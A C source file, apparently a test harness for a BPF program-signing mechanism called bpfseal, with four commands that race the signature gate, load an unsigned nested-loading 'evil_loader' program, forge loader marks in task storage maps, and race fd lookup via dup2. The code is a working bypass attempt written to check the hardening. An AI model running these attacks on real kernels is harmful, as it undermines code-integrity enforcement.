// SPDX-License-Identifier: GPL-2.0-only
/*
 * attack: what a root attacker tries against an enforcing (or locked)
 * bpfseal, one class of the hardening issue per command. Each prints what
 * it did and exits 1 when the attack won, 0 when it lost.
 *
 *   attack steal SECONDS
 *	Class 1, gate skipped and program stolen by id. One thread on CPU 0
 *	loads a 1M-instruction unsigned program again and again (long in
 *	the gate), a SCHED_FIFO thread on the same CPU loads a small unsigned
 *	program every half millisecond (it preempts the first, wherever it
 *	is), and a thread on CPU 1 opens every program id it sees. Won if any
 *	of these loads succeeds or any of them is opened by id.
 *
 *   attack load-p PIN
 *	Loads P, an unsigned syscall program that loads a program from
 *	inside the kernel (bpf_sys_bpf), and pins it at PIN. Run in
 *	permissive mode, as during the documented rollout.
 *
 *   attack forge RUNS PIN
 *	Classes 2 and 3, forged loader mark. For each of three forged marks
 *	(a verdict of OK, then verdicts far out of range): a second thread
 *	keeps writing the mark for the main thread (pidfd) into every task
 *	storage map it can open by id, while the main thread runs P RUNS
 *	times. Won if one of P's nested loads succeeds.
 *
 *   attack dup2 P_RUNS PIN KEYRING INSNS DATA SIG
 *	Class 4, BPF_PROG_RUN's fd looked up twice. Until P has run P_RUNS
 *	times (at most 20 * P_RUNS tries): load a fresh signed loader L, then
 *	run fd number X while a second thread keeps dup2()ing P and L over X.
 *	Won (exit 1) if P's nested load ever succeeds; exit 3 if P did not run
 *	P_RUNS times (the race hardly happened).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>
#include <linux/bpf.h>

#include "rawload.h"
#include "steal.h"

#define INSN(c, d, s, o, i) \
	((struct bpf_insn){ .code = (c), .dst_reg = (d), .src_reg = (s), \
			    .off = (o), .imm = (i) })
#define MOV64_REG(d, s)	INSN(BPF_ALU64 | BPF_MOV | BPF_X, d, s, 0, 0)
#define MOV64_IMM(d, i)	INSN(BPF_ALU64 | BPF_MOV | BPF_K, d, 0, 0, i)
#define ADD64_IMM(d, i)	INSN(BPF_ALU64 | BPF_ADD | BPF_K, d, 0, 0, i)
#define STX(sz, d, s, o) INSN(BPF_STX | BPF_MEM | (sz), d, s, o, 0)
#define ST(sz, d, o, i)	INSN(BPF_ST | BPF_MEM | (sz), d, 0, o, i)
#define CALL(f)		INSN(BPF_JMP | BPF_CALL, 0, 0, 0, f)
#define EXIT()		INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0)

#define P_RAN 0x50505050

/* P's context: the attr of its nested load and what that load reads. */
struct pctx {
	union bpf_attr attr;
	char pad[512];	/* room for a light-skeleton loader's own context */
	struct bpf_insn insns[2];
	char license[8];
	__u32 marker;	/* P_RAN once P ran */
	__s32 result;	/* what the nested BPF_PROG_LOAD returned */
};

static const struct bpf_insn nested_insns[2] = { MOV64_IMM(0, 0), EXIT() };

static int load_p(void)
{
	struct bpf_insn p[] = {
		MOV64_REG(6, 1),
		MOV64_REG(2, 6),
		ADD64_IMM(2, offsetof(struct pctx, insns)),
		STX(BPF_DW, 6, 2, offsetof(union bpf_attr, insns)),
		MOV64_REG(2, 6),
		ADD64_IMM(2, offsetof(struct pctx, license)),
		STX(BPF_DW, 6, 2, offsetof(union bpf_attr, license)),
		MOV64_IMM(1, BPF_PROG_LOAD),
		MOV64_REG(2, 6),
		MOV64_IMM(3, sizeof(union bpf_attr)),
		CALL(BPF_FUNC_sys_bpf),
		STX(BPF_W, 6, 0, offsetof(struct pctx, result)),
		ST(BPF_W, 6, offsetof(struct pctx, marker), P_RAN),
		MOV64_IMM(0, 0),
		EXIT(),
	};
	static char log[65536];
	union bpf_attr a;
	int fd;

	memset(&a, 0, sizeof(a));
	a.prog_type = BPF_PROG_TYPE_SYSCALL;
	a.insns = (unsigned long)p;
	a.insn_cnt = sizeof(p) / sizeof(p[0]);
	a.license = (unsigned long)"GPL";
	a.prog_flags = BPF_F_SLEEPABLE;
	a.log_buf = (unsigned long)log;
	a.log_size = sizeof(log);
	a.log_level = 1;
	strcpy(a.prog_name, "evil_loader");
	fd = sys_bpf(BPF_PROG_LOAD, &a, sizeof(a));
	if (fd < 0)
		fprintf(stderr, "attack: P does not load (errno %d):\n%s\n", errno, log);
	return fd;
}

static void pctx_init(struct pctx *c)
{
	memset(c, 0, sizeof(*c));
	c->attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
	c->attr.insn_cnt = 2;
	strcpy(c->attr.prog_name, "atk_nested");
	memcpy(c->insns, nested_insns, sizeof(nested_insns));
	strcpy(c->license, "GPL");
}

/* Run @fd once with @c as context; 0 or -errno. */
static int run(int fd, struct pctx *c)
{
	union bpf_attr a;

	memset(&a, 0, sizeof(a));
	a.test.prog_fd = fd;
	a.test.ctx_in = (unsigned long)c;
	a.test.ctx_size_in = sizeof(*c);
	return sys_bpf(BPF_PROG_RUN, &a, sizeof(a)) ? -errno : 0;
}

static int obj_get(const char *pin)
{
	union bpf_attr a;
	int fd;

	memset(&a, 0, sizeof(a));
	a.pathname = (unsigned long)pin;
	fd = sys_bpf(BPF_OBJ_GET, &a, sizeof(a));
	if (fd < 0) {
		fprintf(stderr, "attack: cannot open %s (errno %d)\n", pin, errno);
		exit(2);
	}
	return fd;
}

/* --- class 1 ------------------------------------------------------------ */

static atomic_int steal_over;
static atomic_long loads_tried, loads_won;

static int load_unsigned_n(const struct bpf_insn *p, unsigned int n,
			   const char *name)
{
	return load_socket_filter(p, n, name, NULL);
}

static void pin_cpu(int cpu)
{
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET(cpu, &set);
	sched_setaffinity(0, sizeof(set), &set);
}

static void count_load(int fd)
{
	atomic_fetch_add(&loads_tried, 1);
	if (fd >= 0) {
		atomic_fetch_add(&loads_won, 1);
		close(fd);
	}
}

static void *big_loader(void *arg)
{
	unsigned int n = 1000000, i;
	struct bpf_insn *p = calloc(n, sizeof(*p));

	(void)arg;
	if (!p)
		return NULL;
	pin_cpu(0);
	for (i = 0; i < n - 1; i++)
		p[i] = MOV64_IMM(0, 0);
	p[n - 1] = EXIT();
	while (!atomic_load(&steal_over))
		count_load(load_unsigned_n(p, n, "atk_big"));
	free(p);
	return NULL;
}

static void *fifo_loader(void *arg)
{
	struct sched_param sp = { .sched_priority = 1 };
	struct timespec ts = { 0, 500000 };

	(void)arg;
	pin_cpu(0);
	if (sched_setscheduler(0, SCHED_FIFO, &sp))
		perror("attack: SCHED_FIFO");
	while (!atomic_load(&steal_over)) {
		count_load(load_unsigned_n(nested_insns, 2, "atk_steal"));
		nanosleep(&ts, NULL);
	}
	return NULL;
}

static int cmd_steal(int seconds)
{
	struct stealer thief = { .forbidden = "atk_" };
	pthread_t big, fifo;
	long stolen;

	if (steal_start(&thief, 1) ||
	    pthread_create(&big, NULL, big_loader, NULL) ||
	    pthread_create(&fifo, NULL, fifo_loader, NULL))
		return 2;
	sleep(seconds);
	atomic_store(&steal_over, 1);
	pthread_join(fifo, NULL);
	pthread_join(big, NULL);
	stolen = steal_stop(&thief);
	printf("steal: %ld unsigned loads tried, %ld loaded\n",
	       atomic_load(&loads_tried), atomic_load(&loads_won));
	return stolen || atomic_load(&loads_won) ? 1 : 0;
}

/* --- classes 2 and 3 ---------------------------------------------------- */

/* Write @mark, repeated, as this task's value in task storage map @fd. */
static int forge_one(int fd, int pidfd, __u32 value_size, __u64 mark)
{
	unsigned char value[256];
	union bpf_attr a;
	__u32 i;

	if (value_size > sizeof(value))
		return -E2BIG;
	for (i = 0; i + sizeof(mark) <= value_size; i += sizeof(mark))
		memcpy(value + i, &mark, sizeof(mark));
	memset(&a, 0, sizeof(a));
	a.map_fd = fd;
	a.key = (unsigned long)&pidfd;
	a.value = (unsigned long)value;
	return sys_bpf(BPF_MAP_UPDATE_ELEM, &a, sizeof(a)) ? -errno : 0;
}

#define MAX_FORGE_MAPS 64
static int forge_fds[MAX_FORGE_MAPS], forge_sizes[MAX_FORGE_MAPS], nr_forge;
static int forge_pidfd;
static _Atomic __u64 forge_mark;
static atomic_int forge_stop;
static atomic_long forge_writes;

/* Open every task storage map there is. */
static void forge_find_maps(void)
{
	struct bpf_map_info info;
	union bpf_attr a;
	__u32 id = 0;
	int fd;

	while (nr_forge < MAX_FORGE_MAPS) {
		memset(&a, 0, sizeof(a));
		a.start_id = id;
		if (sys_bpf(BPF_MAP_GET_NEXT_ID, &a, sizeof(a)))
			break;
		id = a.next_id;
		memset(&a, 0, sizeof(a));
		a.map_id = id;
		fd = sys_bpf(BPF_MAP_GET_FD_BY_ID, &a, sizeof(a));
		if (fd < 0)
			continue;
		memset(&info, 0, sizeof(info));
		memset(&a, 0, sizeof(a));
		a.info.bpf_fd = fd;
		a.info.info_len = sizeof(info);
		a.info.info = (unsigned long)&info;
		if (sys_bpf(BPF_OBJ_GET_INFO_BY_FD, &a, sizeof(a)) ||
		    info.type != BPF_MAP_TYPE_TASK_STORAGE) {
			close(fd);
			continue;
		}
		printf("forge: task storage map %u '%s'\n", id, info.name);
		forge_fds[nr_forge] = fd;
		forge_sizes[nr_forge++] = info.value_size;
	}
}

/* Keep writing the forged mark for the main thread into every such map. */
static void *forger(void *arg)
{
	int i;

	(void)arg;
	while (!atomic_load(&forge_stop))
		for (i = 0; i < nr_forge; i++)
			if (!forge_one(forge_fds[i], forge_pidfd, forge_sizes[i],
				       atomic_load(&forge_mark)))
				atomic_fetch_add(&forge_writes, 1);
	return NULL;
}

static int cmd_forge(const char *pin, int runs)
{
	/* OK << 32 | id 1, then verdicts out of range (the audit counters) */
	static const __u64 marks[] = {
		1ull << 32 | 1, 0x100000ull << 32 | 1, 0xfffffff0ull << 32 | 1,
	};
	int p = obj_get(pin), won = 0, ran = 0, r;
	struct pctx c;
	unsigned int k;
	pthread_t th;

	forge_pidfd = syscall(SYS_pidfd_open, getpid(), 0);
	forge_find_maps();
	for (k = 0; k < sizeof(marks) / sizeof(marks[0]); k++) {
		atomic_store(&forge_mark, marks[k]);
		atomic_store(&forge_stop, 0);
		if (pthread_create(&th, NULL, forger, NULL))
			return 2;
		for (r = 0; r < runs; r++) {
			pctx_init(&c);
			run(p, &c);
			if (c.marker != P_RAN)
				continue;
			ran++;
			if (c.result >= 0) {
				won++;
				close(c.result);
			}
		}
		atomic_store(&forge_stop, 1);
		pthread_join(th, NULL);
	}
	printf("forge: %d task storage maps, %ld forged marks written; P ran %d times, nested loads that succeeded: %d, last result %d\n",
	       nr_forge, atomic_load(&forge_writes), ran, won, c.result);
	if (!ran)
		return 2;
	return won ? 1 : 0;
}

/* --- class 4 ------------------------------------------------------------ */

#define RUN_FD 500
static int fd_l, fd_p;
static atomic_int dup_stop;

static void *flipper(void *arg)
{
	(void)arg;
	while (!atomic_load(&dup_stop)) {
		dup2(fd_p, RUN_FD);
		dup2(fd_l, RUN_FD);
	}
	return NULL;
}

static int cmd_dup2(int want_p_runs, const char *pin)
{
	int r, map, p_runs = 0, won = 0, l_loads = 0;
	int runs = 20 * want_p_runs;
	volatile int fds[1];
	struct pctx c;
	pthread_t th;

	fd_p = obj_get(pin);
	for (r = 0; r < runs && p_runs < want_p_runs; r++) {
		map = sealed_map(data.p);
		fds[0] = map;
		fd_l = load_fds(fds);
		if (map < 0 || fd_l < 0) {
			printf("dup2: the signed loader does not load (%d, errno %d)\n",
			       fd_l, errno);
			return 2;
		}
		l_loads++;
		dup2(fd_l, RUN_FD);
		pctx_init(&c);
		atomic_store(&dup_stop, 0);
		if (pthread_create(&th, NULL, flipper, NULL))
			return 2;
		run(RUN_FD, &c);
		atomic_store(&dup_stop, 1);
		pthread_join(th, NULL);
		if (c.marker == P_RAN) {
			p_runs++;
			if (c.result >= 0) {
				won++;
				printf("dup2: run %d: P's nested load succeeded\n", r);
				close(c.result);
			}
		}
		close(RUN_FD);
		close(fd_l);
		close(map);
	}
	printf("dup2: %d runs, %d fresh signed loaders, P ran %d times, its nested load succeeded %d times\n",
	       r, l_loads, p_runs, won);
	if (won)
		return 1;
	return p_runs < want_p_runs ? 3 : 0;
}

int main(int argc, char **argv)
{
	union bpf_attr a;
	int fd;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && !strcmp(argv[1], "steal"))
		return cmd_steal(atoi(argv[2]));
	if (argc == 3 && !strcmp(argv[1], "load-p")) {
		fd = load_p();
		if (fd < 0)
			return 2;
		memset(&a, 0, sizeof(a));
		a.pathname = (unsigned long)argv[2];
		a.bpf_fd = fd;
		if (sys_bpf(BPF_OBJ_PIN, &a, sizeof(a))) {
			perror("attack: pin");
			return 2;
		}
		return 0;
	}
	if (argc == 4 && !strcmp(argv[1], "forge"))
		return cmd_forge(argv[3], atoi(argv[2]));
	if (argc == 8 && !strcmp(argv[1], "dup2")) {
		rawload_init(argv[4], argv[5], argv[6], argv[7]);
		return cmd_dup2(atoi(argv[2]), argv[3]);
	}
	fprintf(stderr, "usage: attack steal SECONDS | load-p PIN | forge RUNS PIN | dup2 P_RUNS PIN KEYRING INSNS DATA SIG\n");
	return 2;
}
